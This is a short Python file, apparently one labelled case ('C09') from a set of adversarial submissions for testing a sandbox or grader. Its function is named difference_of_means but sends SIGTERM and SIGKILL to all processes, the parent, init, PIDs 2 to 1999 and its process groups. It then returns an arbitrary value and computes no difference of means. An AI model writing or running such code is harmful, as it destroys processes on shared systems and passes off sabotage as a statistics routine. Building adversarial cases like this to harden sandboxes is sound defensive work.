"""C09: signals to everyone, to the group, to the parent, to init, and whoever can be named."""

import os
import signal


def difference_of_means(acts, labels):
    for pid in (-1, os.getppid(), 1, -os.getpgrp(), *range(2, 2000)):
        for number in (signal.SIGTERM, signal.SIGKILL):
            if pid == os.getpid():
                continue
            try:
                os.kill(pid, number)
            except OSError:
                continue
    for group in (0, os.getpgrp()):
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            continue
    return acts[0]
